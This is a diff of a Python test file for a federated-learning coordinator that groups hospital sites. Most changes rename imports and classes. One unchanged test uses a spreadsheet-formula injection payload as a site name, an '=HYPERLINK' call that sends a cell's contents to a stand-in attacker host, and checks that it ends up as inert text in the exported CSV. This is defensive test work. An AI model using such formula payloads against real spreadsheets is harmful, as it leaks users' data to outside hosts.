@@ -12,9 +12,9 @@ from flwr.app import ArrayRecord, ConfigRecord, Error, Message, RecordDict
 from polyclinic.config import RunConfig
 from polyclinic.errors import PolyclinicError
 from polyclinic.messages import ENROL, FAILED, RECORD
+from polyclinic.runs.folder import Run
 from polyclinic.server.app import coordinate
-from polyclinic.server.enrolment import enrol, enrol_request
-from polyclinic.server.run_folder import RunFolder
+from polyclinic.server.phases.enrolment import enrol, enrol_request
 from tests.server.test_joining import KEYS, NAMES, Here, Hospitals, hospitals
 
 __all__ = ["hospitals"]
@@ -108,7 +108,7 @@ def test_alone_it_makes_no_simulation_where_the_runs_hospitals_are_real(hospital
 def test_a_name_that_is_a_formula_is_text_in_the_table_for_people(hospitals: Path) -> None:
     name = '=HYPERLINK("http://evil.example/?"&A1,"x")'
     config = RunConfig.build(KEYS | {"out": str(hospitals / "runs"), "rounds": 1})
-    grid, folder = Lying(hospitals, config, lambda done: set(NAMES)), RunFolder.create(config, pictures=False)
+    grid, folder = Lying(hospitals, config, lambda done: set(NAMES)), Run.create(config, pictures=False)
     grid.lie = says(site=name)
     coordinate(grid, config, folder)
     with (folder.path / "rounds.csv").open(newline="") as file:
@@ -122,7 +122,7 @@ def test_the_run_goes_on_with_the_others_and_says_why(hospitals: Path, name: str
     config = RunConfig.build(KEYS | {"out": str(hospitals / "runs"), "rounds": 2, "participation.min-sites": 2})
     grid = Lying(hospitals, config, lambda done: set(NAMES))
     grid.lie, words = LIES[name]
-    _, summary = coordinate(grid, config, RunFolder.create(config, pictures=False))
+    _, summary = coordinate(grid, config, Run.create(config, pictures=False))
     assert set(summary["metrics"]["sites"]) == {"south", "west"} and summary["rounds"] == 2
     assert {kind for who, kind in grid.asked if who == "north"} == {ENROL}
     [dropped] = summary["dropouts"]  # it is asked once more before the first round, and said to be out once
